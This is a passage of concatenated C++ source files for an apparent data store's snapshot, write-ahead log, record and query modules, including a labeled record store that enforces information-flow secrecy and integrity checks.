// snapshot-<R>.w5s. The name is the contract: the snapshot covers every
// sequence number < R, so recovery loads the newest valid snapshot and
// replays only WAL segments at or after its boundary.
//
// Crash safety is the classic dance: write to a .tmp file, fsync it,
// atomically rename into place, fsync the directory. A crash at any point
// leaves either the old snapshot set intact or the new file complete —
// never a half-visible snapshot, because the header embeds a streaming
// SHA-256 of the payload and loaders skip any file that fails it.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "net/fault.h"  // FileFaultPlan — crash injection for snapshot writes
#include "util/result.h"

namespace w5::store {

// snapshot-<boundary, 20 decimal digits>.w5s
std::string snapshot_file_name(std::uint64_t boundary);

// Writes `payload` as the snapshot covering all seqs < `boundary`.
// Faults from `fault` apply to the temp-file writes; if the plan crashes
// mid-write the rename never happens (the "process" died first), leaving
// prior snapshots untouched.
util::Status write_snapshot(const std::string& dir, std::uint64_t boundary,
                            std::string_view payload,
                            net::FileFaultPlan fault = {});

struct LoadedSnapshot {
  bool found = false;
  std::uint64_t boundary = 1;  // replay starts here (1 when no snapshot)
  std::string payload;
};

// Scans `dir` for the newest snapshot whose checksum verifies, skipping
// (not deleting) corrupt or torn ones — an older valid snapshot plus a
// longer WAL replay is still a correct recovery.
util::Result<LoadedSnapshot> load_latest_snapshot(const std::string& dir);

// Compaction GC: removes snapshots older than the newest one at or below
// `keep_boundary` (recovery only ever reads the newest valid file).
util::Status remove_stale_snapshots(const std::string& dir,
                                    std::uint64_t keep_boundary);

}  // namespace w5::store
