// Write-ahead log for provider state (DESIGN.md §13).
//
// Every mutation to the labeled store, filesystem, tag registry, policy
// store, and user directory is serialized (labels included — policy is
// inseparable from data at rest, paper §1/§3.1) and appended here before
// the caller's durability mode lets the request complete. Frames are
// length-prefixed, CRC32-guarded, and carry a monotone sequence number:
//
//   [u32 payload_len][u32 crc32(seq_le || payload)][u64 seq][payload]
//
// all little-endian. Recovery replays frames in order and stops cleanly
// at the first torn or corrupt frame — the tail an interrupted write
// leaves behind — truncating it so the log is append-ready again.
//
// The log is segmented: appends go to wal-<first_seq>.log; compaction
// rotates to a fresh segment, snapshots the full state, and deletes
// segments the snapshot covers. Group commit: appends from the worker
// pool enqueue under a leaf mutex, and a dedicated flusher thread writes
// and fsyncs whole batches, amortizing one fsync across every request
// that arrived while the previous one was in flight.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "net/fault.h"  // FaultyFile, FileFaultPlan
#include "util/clock.h"
#include "util/metrics.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::store {

// How hard an acknowledged mutation promises to be on disk.
enum class DurabilityMode : std::uint8_t {
  kNone,      // appends reach the OS eventually; no fsync is ever issued
  kInterval,  // batches are written promptly, fsynced every flush interval
  kFsync,     // the caller blocks until its batch is fsynced (group commit)
};

std::string to_string(DurabilityMode mode);

struct WalOptions {
  DurabilityMode mode = DurabilityMode::kFsync;
  util::Micros flush_interval_micros = 2'000;  // kInterval fsync cadence
  net::FileFaultPlan fault;  // test hook: injected file faults
  util::MetricsRegistry* metrics = nullptr;  // optional w5_wal_* instruments
};

// On-disk layout constants, shared with tests that enumerate crash
// offsets frame by frame.
inline constexpr std::size_t kWalHeaderBytes = 16;  // len + crc + seq
inline constexpr std::size_t kWalMaxPayloadBytes = 64u << 20;

std::string wal_segment_name(std::uint64_t first_seq);

// Encodes one frame; appended to `out`.
void wal_encode_frame(std::uint64_t seq, std::string_view payload,
                      std::string& out);

class WriteAheadLog {
 public:
  // Replay of everything on disk at or after `from_seq`, in sequence
  // order. `apply` sees each payload exactly once; replay stops (without
  // error) at the first torn/corrupt frame and `repair` truncates the
  // segment there and removes any later segments, so the surviving prefix
  // is exactly what the next open() extends. It is an error (not a torn
  // tail) when the oldest surviving segment starts after `from_seq`:
  // frames the caller needs are missing entirely, and replaying over the
  // hole would report success with mutations silently dropped.
  struct ReplayResult {
    std::uint64_t entries = 0;        // frames delivered to apply
    std::uint64_t last_seq = 0;       // highest sequence applied
    std::uint64_t truncated_bytes = 0;  // torn tail discarded by repair
    bool tail_torn = false;
  };
  static util::Result<ReplayResult> replay(
      const std::string& dir, std::uint64_t from_seq,
      const std::function<util::Status(std::uint64_t seq,
                                       const std::string& payload)>& apply,
      bool repair = true);

  // Opens a fresh segment starting at `next_seq` and starts the flusher.
  static util::Result<std::unique_ptr<WriteAheadLog>> open(
      const std::string& dir, std::uint64_t next_seq, WalOptions options);

  ~WriteAheadLog();

  WriteAheadLog(const WriteAheadLog&) = delete;
  WriteAheadLog& operator=(const WriteAheadLog&) = delete;

  // Assigns and returns the next sequence number; the payload is owned by
  // the flusher from here. Cheap: one leaf mutex, no I/O. Returns 0 after
  // close(), after the log has failed, or when the payload exceeds
  // kWalMaxPayloadBytes (an oversized frame would be unreplayable, so it
  // must never be written); wait_durable(0) reports the rejection.
  std::uint64_t append(std::string payload);

  // Blocks until `seq` is durable — only in kFsync mode; the weaker modes
  // return promptly (that is their contract). An error means `seq` never
  // became durable: the log failed (a write or fsync error poisons it —
  // every unacked and future mutation fails from then on) or `seq` is 0
  // because append() refused the op.
  util::Status wait_durable(std::uint64_t seq);

  // Drains pending appends to disk (fsyncs except in kNone); the test and
  // shutdown hook. Errors if the log has failed.
  util::Status flush();

  // Closes the current segment at a batch boundary and starts a new one.
  // Returns the new segment's first sequence number: every frame < that
  // boundary is in closed segments, fsynced. Compaction calls this before
  // snapshotting so the snapshot provably covers the old segments.
  // Returns 0 if the rotation could not complete (failed log) — the
  // caller must not snapshot against an unproven boundary.
  std::uint64_t rotate();

  // Deletes closed segments whose frames all precede `seq` (compaction,
  // after the covering snapshot is durable).
  util::Status remove_segments_below(std::uint64_t seq);

  std::uint64_t last_appended_seq() const;
  std::uint64_t durable_seq() const;
  // True once a write, fsync, or rotation has failed. Sticky: a failed
  // log refuses appends and fails every wait — a torn frame may sit
  // mid-segment, and anything written after it would be unreachable to
  // replay, so acking anything further would be a durability lie.
  bool failed() const { return failed_.load(std::memory_order_acquire); }
  // Attempted bytes of the current segment (header + payload per frame) —
  // crash-matrix tests enumerate offsets against this.
  std::uint64_t segment_bytes() const;
  std::uint64_t segment_start() const;
  const std::string& dir() const { return dir_; }

  void close();

 private:
  WriteAheadLog(std::string dir, std::uint64_t next_seq, WalOptions options);

  struct Pending {
    std::uint64_t seq;
    std::string payload;
  };

  util::Status open_segment_locked(std::uint64_t first_seq)
      W5_REQUIRES(mutex_);
  // Poisons the log (idempotent) and wakes every waiter.
  void fail_locked(std::string reason) W5_REQUIRES(mutex_);
  util::Status fail_status_locked() const W5_REQUIRES(mutex_);
  void flusher_main();
  // Writes one batch (split across a rotation boundary if one is
  // requested) and fsyncs per mode. Called from the flusher only.
  void write_batch(std::vector<Pending> batch, bool force_fsync);

  const std::string dir_;
  const WalOptions options_;

  // Near-leaf: guards everything below (only telemetry leaves inside).
  mutable util::Mutex mutex_{util::lockrank::kWal, "WriteAheadLog::mutex_"};
  std::condition_variable pending_cv_;   // flusher wakeup
  std::condition_variable durable_cv_;   // wait_durable / flush wakeup
  std::vector<Pending> pending_ W5_GUARDED_BY(mutex_);
  std::uint64_t next_seq_ W5_GUARDED_BY(mutex_);
  // Highest seq written (+fsynced in kFsync).
  std::uint64_t durable_seq_ W5_GUARDED_BY(mutex_) = 0;
  // Highest seq handed to write(2).
  std::uint64_t written_seq_ W5_GUARDED_BY(mutex_) = 0;
  // Highest seq a serviced flush() covers.
  std::uint64_t flushed_seq_ W5_GUARDED_BY(mutex_) = 0;
  // flush() handshake: requests issued vs. force-batches the flusher ran.
  std::uint64_t flush_requests_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t flush_serviced_ W5_GUARDED_BY(mutex_) = 0;
  // Nonzero: rotate before this seq.
  std::uint64_t rotate_at_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t segment_start_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t segment_bytes_ W5_GUARDED_BY(mutex_) = 0;
  bool closing_ W5_GUARDED_BY(mutex_) = false;
  std::atomic<bool> failed_{false};  // set under mutex_; read lock-free
  std::string fail_reason_ W5_GUARDED_BY(mutex_);
  // Flusher-thread-only between open() and close(); open_segment_locked
  // swaps it under mutex_ while the flusher itself holds the lock.
  net::FaultyFile file_;
  util::Micros last_fsync_micros_ = 0;  // flusher-thread-only

  // Telemetry (null when no registry was supplied).
  util::Counter* appends_ = nullptr;
  util::Counter* append_bytes_ = nullptr;
  util::Counter* fsyncs_ = nullptr;
  util::Counter* rotations_ = nullptr;
  util::Histogram* batch_entries_ = nullptr;
  util::Histogram* fsync_micros_ = nullptr;

  std::thread flusher_;
};

}  // namespace w5::store
