#include "store/record.h"

#include "difc/codec.h"

namespace w5::store {

util::Json Record::to_json() const {
  util::Json out;
  out["collection"] = collection;
  out["id"] = id;
  out["owner"] = owner;
  out["labels"] = difc::object_labels_to_json(labels);
  out["data"] = data;
  out["version"] = version;
  out["updated"] = updated_micros;
  return out;
}

util::Result<Record> Record::from_json(const util::Json& j) {
  Record record;
  record.collection = j.at("collection").as_string();
  record.id = j.at("id").as_string();
  if (record.collection.empty() || record.id.empty())
    return util::make_error("store.parse", "record missing collection/id");
  record.owner = j.at("owner").as_string();
  auto labels = difc::object_labels_from_json(j.at("labels"));
  if (!labels.ok()) return labels.error();
  record.labels = std::move(labels).value();
  record.data = j.at("data");
  const auto version = j.at("version").as_int(0);
  if (version <= 0) return util::make_error("store.parse", "bad version");
  record.version = static_cast<std::uint64_t>(version);
  record.updated_micros = j.at("updated").as_int(0);
  return record;
}

}  // namespace w5::store
