// Composable record predicates — the safe query surface developers get
// instead of SQL (§3.5). Predicates are pure functions over one record,
// so a query can never observe anything outside the caller's clearance,
// and there is no shared mutable state for one app's query to lock
// against another's.
#pragma once

#include <string>

#include "store/labeled_store.h"

namespace w5::store {

// data[field] == value (string compare).
RecordPredicate field_equals(std::string field, std::string value);

// data[field] is a number within [lo, hi].
RecordPredicate field_between(std::string field, double lo, double hi);

// data[field] is an array containing the string value.
RecordPredicate array_contains(std::string field, std::string value);

// data[field] (string) contains the substring.
RecordPredicate field_contains(std::string field, std::string needle);

RecordPredicate and_also(RecordPredicate a, RecordPredicate b);
RecordPredicate or_else(RecordPredicate a, RecordPredicate b);
RecordPredicate negate(RecordPredicate p);

}  // namespace w5::store
