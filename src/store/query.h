// Composable record predicates — the safe query surface developers get
// instead of SQL (§3.5). Predicates are pure functions over one record,
// so a query can never observe anything outside the caller's clearance,
// and there is no shared mutable state for one app's query to lock
// against another's.
//
// Missing-field semantics (deliberate, and worth reading twice): there is
// no SQL-style three-valued NULL logic here. A missing or null
// data[field] simply makes every field_* builder return false, and
// negate() is plain boolean complement. So
//
//   field_equals("city", "x")          — false for records with no "city"
//   negate(field_equals("city", "x"))  — TRUE for records with no "city"
//
// A record lacking the field is "not equal to x", not "unknown". Use
// and_also(field_exists(f), negate(field_equals(f, v))) for "has the
// field, with a different value".
#pragma once

#include <string>

#include "store/labeled_store.h"

namespace w5::store {

// data[field] == value (string compare).
RecordPredicate field_equals(std::string field, std::string value);

// data[field] is present and non-null (any type). Composes with negate()
// for the two "missing field" readings described above.
RecordPredicate field_exists(std::string field);

// data[field] is a number within [lo, hi].
RecordPredicate field_between(std::string field, double lo, double hi);

// data[field] is an array containing the string value.
RecordPredicate array_contains(std::string field, std::string value);

// data[field] (string) contains the substring.
RecordPredicate field_contains(std::string field, std::string needle);

RecordPredicate and_also(RecordPredicate a, RecordPredicate b);
RecordPredicate or_else(RecordPredicate a, RecordPredicate b);
// Boolean complement — see the missing-field note above: negating a
// field predicate matches records that lack the field entirely.
RecordPredicate negate(RecordPredicate p);

}  // namespace w5::store
