#include "store/snapshot.h"

#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <vector>

#include "util/sha256.h"

namespace w5::store {

namespace fs = std::filesystem;

namespace {

constexpr char kSnapshotPrefix[] = "snapshot-";
constexpr char kSnapshotSuffix[] = ".w5s";
constexpr char kMagic[] = "w5snap1";

struct SnapshotFile {
  std::uint64_t boundary = 0;
  fs::path path;
  bool operator<(const SnapshotFile& other) const {
    return boundary < other.boundary;
  }
};

std::vector<SnapshotFile> list_snapshots(const std::string& dir) {
  std::vector<SnapshotFile> out;
  std::error_code ec;
  for (const auto& entry : fs::directory_iterator(dir, ec)) {
    const std::string name = entry.path().filename().string();
    if (!name.starts_with(kSnapshotPrefix) || !name.ends_with(kSnapshotSuffix))
      continue;
    const std::string digits = name.substr(
        sizeof(kSnapshotPrefix) - 1,
        name.size() - sizeof(kSnapshotPrefix) - sizeof(kSnapshotSuffix) + 2);
    if (digits.empty() ||
        digits.find_first_not_of("0123456789") != std::string::npos)
      continue;
    out.push_back({std::strtoull(digits.c_str(), nullptr, 10), entry.path()});
  }
  std::sort(out.begin(), out.end());
  return out;
}

util::Status fsync_dir(const std::string& dir) {
  const int fd = ::open(dir.c_str(), O_RDONLY);
  if (fd < 0)
    return util::make_error("io.sync", "cannot open dir '" + dir + "'");
  const int rc = ::fsync(fd);
  ::close(fd);
  if (rc != 0) return util::make_error("io.sync", std::strerror(errno));
  return util::ok_status();
}

}  // namespace

std::string snapshot_file_name(std::uint64_t boundary) {
  std::string digits = std::to_string(boundary);
  return std::string(kSnapshotPrefix) +
         std::string(20 - std::min<std::size_t>(digits.size(), 20), '0') +
         digits + kSnapshotSuffix;
}

util::Status write_snapshot(const std::string& dir, std::uint64_t boundary,
                            std::string_view payload,
                            net::FileFaultPlan fault) {
  std::error_code ec;
  fs::create_directories(dir, ec);
  if (ec)
    return util::make_error("snapshot.write",
                            "cannot create dir '" + dir + "'");

  // Checksum streamed chunk-by-chunk — snapshots can be large and this is
  // the same path load uses, so both sides exercise the incremental API.
  util::Sha256 hasher;
  constexpr std::size_t kChunk = 64 * 1024;
  for (std::size_t off = 0; off < payload.size(); off += kChunk)
    hasher.update(payload.substr(off, kChunk));
  const std::string digest = hasher.finish_hex();

  const fs::path final_path = fs::path(dir) / snapshot_file_name(boundary);
  const fs::path tmp_path = final_path.string() + ".tmp";

  auto file = net::FaultyFile::create(tmp_path.string(), fault);
  if (!file.ok()) return file.error();
  std::string header = std::string(kMagic) + " " + std::to_string(boundary) +
                       " " + digest + "\n";
  if (auto status = file.value().write_all(header); !status.ok())
    return status;
  for (std::size_t off = 0; off < payload.size(); off += kChunk) {
    if (auto status = file.value().write_all(payload.substr(off, kChunk));
        !status.ok())
      return status;
  }
  if (auto status = file.value().sync(); !status.ok()) return status;
  file.value().close();

  // A crashed plan means the simulated machine died before this point:
  // the rename must not happen, or the test would "publish" a snapshot
  // whose tail was lost.
  if (fault.crashed()) return util::ok_status();

  fs::rename(tmp_path, final_path, ec);
  if (ec)
    return util::make_error("snapshot.write",
                            "rename failed: " + tmp_path.string());
  return fsync_dir(dir);
}

util::Result<LoadedSnapshot> load_latest_snapshot(const std::string& dir) {
  std::vector<SnapshotFile> snapshots = list_snapshots(dir);
  for (auto it = snapshots.rbegin(); it != snapshots.rend(); ++it) {
    std::ifstream in(it->path, std::ios::binary);
    if (!in) continue;
    std::string header;
    if (!std::getline(in, header)) continue;
    // "w5snap1 <boundary> <sha256hex>"
    const std::size_t sp1 = header.find(' ');
    const std::size_t sp2 =
        sp1 == std::string::npos ? std::string::npos : header.find(' ', sp1 + 1);
    if (sp2 == std::string::npos || header.substr(0, sp1) != kMagic) continue;
    const std::string boundary_text = header.substr(sp1 + 1, sp2 - sp1 - 1);
    const std::string want_digest = header.substr(sp2 + 1);
    if (std::strtoull(boundary_text.c_str(), nullptr, 10) != it->boundary)
      continue;  // name/header disagree: not trustworthy

    util::Sha256 hasher;
    std::string payload;
    std::string chunk(64 * 1024, '\0');
    while (in.read(chunk.data(), static_cast<std::streamsize>(chunk.size())) ||
           in.gcount() > 0) {
      const std::string_view got(chunk.data(),
                                 static_cast<std::size_t>(in.gcount()));
      hasher.update(got);
      payload += got;
    }
    if (hasher.finish_hex() != want_digest) continue;  // torn or rotted

    LoadedSnapshot loaded;
    loaded.found = true;
    loaded.boundary = it->boundary;
    loaded.payload = std::move(payload);
    return loaded;
  }
  return LoadedSnapshot{};
}

util::Status remove_stale_snapshots(const std::string& dir,
                                    std::uint64_t keep_boundary) {
  std::vector<SnapshotFile> snapshots = list_snapshots(dir);
  // Keep the newest snapshot at or below the boundary (it is the one
  // recovery would load) and everything newer; delete strictly older ones.
  std::uint64_t keep = 0;
  for (const SnapshotFile& s : snapshots)
    if (s.boundary <= keep_boundary) keep = std::max(keep, s.boundary);
  for (const SnapshotFile& s : snapshots) {
    if (s.boundary >= keep) continue;
    std::error_code ec;
    fs::remove(s.path, ec);
    if (ec)
      return util::make_error("snapshot.gc",
                              "cannot remove " + s.path.string());
  }
  // Leftover .tmp files from interrupted writes are dead weight; sweep.
  std::error_code ec;
  for (const auto& entry : fs::directory_iterator(dir, ec)) {
    if (entry.path().extension() == ".tmp") {
      std::error_code rm;
      fs::remove(entry.path(), rm);
    }
  }
  return util::ok_status();
}

}  // namespace w5::store
