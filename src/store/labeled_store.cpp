#include "store/labeled_store.h"

#include <algorithm>
#include <mutex>

namespace w5::store {

namespace {

// Same widening rule as the filesystem: dual privilege reads/writes
// transparently; t+ endorses implicitly (see os/filesystem.cpp).
difc::LabelState widen_for(const difc::LabelState& state,
                           const difc::ObjectLabels& object) {
  const difc::Label dual =
      state.owned().addable().intersect_with(state.owned().removable());
  const difc::Label secrecy =
      state.secrecy().union_with(object.secrecy.intersect_with(dual));
  const difc::Label integrity = state.integrity().union_with(
      object.integrity.intersect_with(state.owned().addable()));
  return difc::LabelState(secrecy, integrity, state.owned());
}

util::Error not_found(const std::string& collection, const std::string& id) {
  return util::make_error("store.not_found", collection + "/" + id);
}

bool key_less(const Record& a, const Record& b) {
  if (a.collection != b.collection) return a.collection < b.collection;
  return a.id < b.id;
}

}  // namespace

std::size_t LabeledStore::shard_index(const Key& key) {
  const std::size_t h1 = std::hash<std::string>{}(key.first);
  const std::size_t h2 = std::hash<std::string>{}(key.second);
  return (h1 * 31 + h2) % kShardCount;
}

util::Result<difc::LabelState> LabeledStore::caller(os::Pid pid) const {
  return kernel_.effective_state(pid);
}

bool LabeledStore::visible(const Record& record,
                           const difc::Label& clearance) {
  return record.labels.secrecy.subset_of(clearance);
}

util::Status LabeledStore::put(os::Pid pid, Record record) {
  if (record.collection.empty() || record.id.empty())
    return util::make_error("store.invalid", "collection and id required");
  auto state = caller(pid);
  if (!state.ok()) return state.error();

  const Key key{record.collection, record.id};
  Shard& shard = shard_for(key);
  util::telemetry_count(puts_);
  util::telemetry_count(shard.ops);
  util::WriteLock lock(shard.mutex);
  const auto it = shard.records.find(key);
  if (it == shard.records.end()) {
    // Create: no leak into the record, no forged endorsement.
    if (!state.value().secrecy().subset_of(record.labels.secrecy)) {
      return util::make_error(
          "flow.denied", "put: process secrecy " +
                             state.value().secrecy().to_string() +
                             " would leak into record labeled " +
                             record.labels.secrecy.to_string());
    }
    const difc::Label endorsable = state.value().integrity().union_with(
        state.value().owned().addable());
    if (!record.labels.integrity.subset_of(endorsable)) {
      return util::make_error("flow.denied",
                              "put: cannot forge integrity " +
                                  record.labels.integrity.to_string());
    }
    if (auto charged = kernel_.charge(
            pid, os::Resource::kDisk,
            static_cast<std::int64_t>(record.data.dump().size()));
        !charged.ok()) {
      return charged;
    }
    record.version = 1;
    record.updated_micros = clock_.now();
    shard.by_owner[record.owner].push_back(key);
    const auto inserted = shard.records.emplace(key, std::move(record)).first;
    // log() under the shard lock so commit order matches lock order; the
    // durability wait happens after release (never fsync under a lock).
    std::uint64_t seq = 0;
    if (mutation_log_ != nullptr) {
      util::Json op;
      op["op"] = "store.put";
      op["record"] = inserted->second.to_json();
      seq = mutation_log_->log(op);
    }
    lock.unlock();
    if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
    return util::ok_status();
  }

  // Overwrite: the record's existing labels govern; stored labels and
  // owner are immutable through this path (relabel is a provider op).
  Record& existing = it->second;
  if (auto status = difc::check_write(
          widen_for(state.value(), existing.labels), existing.labels);
      !status.ok()) {
    return status;
  }
  const auto new_size = static_cast<std::int64_t>(record.data.dump().size());
  const auto old_size =
      static_cast<std::int64_t>(existing.data.dump().size());
  if (new_size > old_size) {
    if (auto charged =
            kernel_.charge(pid, os::Resource::kDisk, new_size - old_size);
        !charged.ok()) {
      return charged;
    }
  }
  existing.data = std::move(record.data);
  existing.version += 1;
  existing.updated_micros = clock_.now();
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    util::Json op;
    op["op"] = "store.put";
    op["record"] = existing.to_json();
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Result<Record> LabeledStore::get(os::Pid pid,
                                       const std::string& collection,
                                       const std::string& id, Raise raise) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const Key key{collection, id};
  Record record;
  {
    // Copy out under the shard lock; the read linearizes here. The raise
    // and flow check run against the copy so we never hold the shard lock
    // across a label change.
    const Shard& shard = shard_for(key);
    util::telemetry_count(gets_);
    util::telemetry_count(shard.ops);
    const util::ReadLock lock(shard.mutex);
    const auto it = shard.records.find(key);
    if (it == shard.records.end()) return not_found(collection, id);
    record = it->second;
  }

  // Outside clearance the record does not exist — indistinguishable from
  // a missing id (no existence leak).
  if (!visible(record, state.value().secrecy_clearance()))
    return not_found(collection, id);

  if (raise == Raise::kYes &&
      !record.labels.secrecy.subset_of(state.value().secrecy())) {
    if (auto raised = kernel_.raise_secrecy(pid, record.labels.secrecy);
        !raised.ok()) {
      return raised.error();
    }
    state = caller(pid);
    if (!state.ok()) return state.error();
  }
  if (auto status = difc::check_read(widen_for(state.value(), record.labels),
                                     record.labels);
      !status.ok()) {
    return status.error();
  }
  return record;
}

util::Status LabeledStore::remove(os::Pid pid, const std::string& collection,
                                  const std::string& id) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const Key key{collection, id};
  Shard& shard = shard_for(key);
  util::telemetry_count(removes_);
  util::telemetry_count(shard.ops);
  util::WriteLock lock(shard.mutex);
  const auto it = shard.records.find(key);
  if (it == shard.records.end())
    return util::Status(not_found(collection, id));
  if (!visible(it->second, state.value().secrecy_clearance()))
    return util::Status(not_found(collection, id));
  // Vandalism is a write (§3.1): deletion needs write authority.
  if (auto status = difc::check_write(
          widen_for(state.value(), it->second.labels), it->second.labels);
      !status.ok()) {
    return status;
  }
  auto& keys = shard.by_owner[it->second.owner];
  std::erase(keys, key);
  if (keys.empty()) shard.by_owner.erase(it->second.owner);
  shard.records.erase(it);
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    util::Json op;
    op["op"] = "store.remove";
    op["collection"] = collection;
    op["id"] = id;
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Result<std::vector<Record>> LabeledStore::query(
    os::Pid pid, const std::string& collection, const QueryOptions& options,
    Raise raise) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const difc::Label bound = raise == Raise::kYes
                                ? state.value().secrecy_clearance()
                                : state.value().secrecy();

  // Per shard a page never needs more than offset+limit visible matches.
  const std::size_t cap = options.offset > SIZE_MAX - options.limit
                              ? SIZE_MAX
                              : options.offset + options.limit;

  // Phase 1: collect visible, matching candidates shard by shard (one
  // lock at a time), then merge-sort by key so pagination order is
  // deterministic regardless of sharding.
  util::telemetry_count(scans_);
  std::vector<Record> candidates;
  for (const Shard& shard : shards_) {
    util::telemetry_count(shard.ops);
    const util::ReadLock lock(shard.mutex);
    std::size_t from_this_shard = 0;
    const auto consider = [&](const Record& record) -> bool {
      if (from_this_shard >= cap) return false;
      if (!visible(record, bound)) return true;  // invisible, keep scanning
      if (options.predicate && !options.predicate(record)) return true;
      candidates.push_back(record);
      ++from_this_shard;
      return true;
    };
    if (!options.owner.empty()) {
      // Secondary index path.
      const auto idx = shard.by_owner.find(options.owner);
      if (idx != shard.by_owner.end()) {
        for (const Key& key : idx->second) {
          if (key.first != collection) continue;
          if (!consider(shard.records.at(key))) break;
        }
      }
    } else {
      const auto begin = shard.records.lower_bound(Key{collection, ""});
      for (auto it = begin;
           it != shard.records.end() && it->first.first == collection; ++it) {
        if (!consider(it->second)) break;
      }
    }
  }
  std::sort(candidates.begin(), candidates.end(), key_less);

  // Phase 2: pagination counts only rows the caller may see.
  std::vector<Record> out;
  difc::Label result_label;
  for (std::size_t i = options.offset;
       i < candidates.size() && out.size() < options.limit; ++i) {
    result_label = result_label.union_with(candidates[i].labels.secrecy);
    out.push_back(std::move(candidates[i]));
  }

  // The caller is contaminated by the join of everything returned.
  if (raise == Raise::kYes &&
      !result_label.subset_of(state.value().secrecy())) {
    if (auto raised = kernel_.raise_secrecy(pid, result_label); !raised.ok())
      return raised.error();
  }
  // Charge per *visible* result only — charging for skipped records would
  // leak their existence through the quota meter.
  if (auto charged = kernel_.charge(pid, os::Resource::kMemory,
                                    static_cast<std::int64_t>(out.size()));
      !charged.ok()) {
    return charged.error();
  }
  return out;
}

util::Result<std::size_t> LabeledStore::count(os::Pid pid,
                                              const std::string& collection,
                                              const QueryOptions& options) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const difc::Label clearance = state.value().secrecy_clearance();
  util::telemetry_count(scans_);
  std::size_t n = 0;
  for (const Shard& shard : shards_) {
    util::telemetry_count(shard.ops);
    const util::ReadLock lock(shard.mutex);
    const auto begin = shard.records.lower_bound(Key{collection, ""});
    for (auto it = begin;
         it != shard.records.end() && it->first.first == collection; ++it) {
      const Record& record = it->second;
      if (!visible(record, clearance)) continue;
      if (!options.owner.empty() && record.owner != options.owner) continue;
      if (options.predicate && !options.predicate(record)) continue;
      ++n;
      if (n >= options.limit) return n;
    }
  }
  return n;
}

util::Result<std::vector<std::string>> LabeledStore::list_ids(
    os::Pid pid, const std::string& collection) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const difc::Label clearance = state.value().secrecy_clearance();
  util::telemetry_count(scans_);
  std::vector<std::string> out;
  for (const Shard& shard : shards_) {
    util::telemetry_count(shard.ops);
    const util::ReadLock lock(shard.mutex);
    const auto begin = shard.records.lower_bound(Key{collection, ""});
    for (auto it = begin;
         it != shard.records.end() && it->first.first == collection; ++it) {
      if (visible(it->second, clearance)) out.push_back(it->first.second);
    }
  }
  std::sort(out.begin(), out.end());
  return out;
}

LabeledStore::OpCounts LabeledStore::op_counts() const {
  return OpCounts{gets_.load(std::memory_order_relaxed),
                  puts_.load(std::memory_order_relaxed),
                  removes_.load(std::memory_order_relaxed),
                  scans_.load(std::memory_order_relaxed)};
}

std::array<std::uint64_t, LabeledStore::kShardCount>
LabeledStore::shard_op_counts() const {
  std::array<std::uint64_t, kShardCount> out{};
  for (std::size_t i = 0; i < kShardCount; ++i)
    out[i] = shards_[i].ops.load(std::memory_order_relaxed);
  return out;
}

std::size_t LabeledStore::total_records() const {
  std::size_t n = 0;
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    n += shard.records.size();
  }
  return n;
}

std::vector<Record> LabeledStore::export_owned_by(
    const std::string& owner) const {
  std::vector<Record> out;
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    const auto it = shard.by_owner.find(owner);
    if (it == shard.by_owner.end()) continue;
    for (const Key& key : it->second) out.push_back(shard.records.at(key));
  }
  std::sort(out.begin(), out.end(), key_less);
  return out;
}

util::Json LabeledStore::to_json() const {
  // Snapshot order is key order, independent of sharding.
  std::vector<Record> all;
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    for (const auto& [key, record] : shard.records) all.push_back(record);
  }
  std::sort(all.begin(), all.end(), key_less);
  util::Json array = util::Json::array();
  for (const Record& record : all) array.push_back(record.to_json());
  util::Json out;
  out["records"] = std::move(array);
  return out;
}

util::Status LabeledStore::apply_wal(const util::Json& op) {
  const std::string& kind = op.at("op").as_string();
  if (kind == "store.put") {
    auto parsed = Record::from_json(op.at("record"));
    if (!parsed.ok()) return parsed.error();
    Record record = std::move(parsed).value();
    const Key key{record.collection, record.id};
    Shard& shard = shard_for(key);
    util::WriteLock lock(shard.mutex);
    const auto it = shard.records.find(key);
    if (it == shard.records.end()) {
      shard.by_owner[record.owner].push_back(key);
      shard.records.emplace(key, std::move(record));
    } else {
      // Owner is immutable through put(), but snapshot/WAL overlap can
      // replay a put over a snapshot record from an earlier life of the
      // key (remove + recreate by another owner straddling the
      // boundary) — re-home the index entry when the owner moved.
      if (it->second.owner != record.owner) {
        auto& old_keys = shard.by_owner[it->second.owner];
        std::erase(old_keys, key);
        if (old_keys.empty()) shard.by_owner.erase(it->second.owner);
        shard.by_owner[record.owner].push_back(key);
      }
      it->second = std::move(record);
    }
    return util::ok_status();
  }
  if (kind == "store.remove") {
    const Key key{op.at("collection").as_string(), op.at("id").as_string()};
    Shard& shard = shard_for(key);
    util::WriteLock lock(shard.mutex);
    const auto it = shard.records.find(key);
    if (it == shard.records.end()) return util::ok_status();  // idempotent
    auto& keys = shard.by_owner[it->second.owner];
    std::erase(keys, key);
    if (keys.empty()) shard.by_owner.erase(it->second.owner);
    shard.records.erase(it);
    return util::ok_status();
  }
  return util::make_error("wal.replay", "unknown store op '" + kind + "'");
}

// Takes all 16 shard locks through a runtime-indexed array — a dynamic
// capability set TSA cannot model, hence the opt-out.
util::Status LabeledStore::load_json(const util::Json& snapshot)
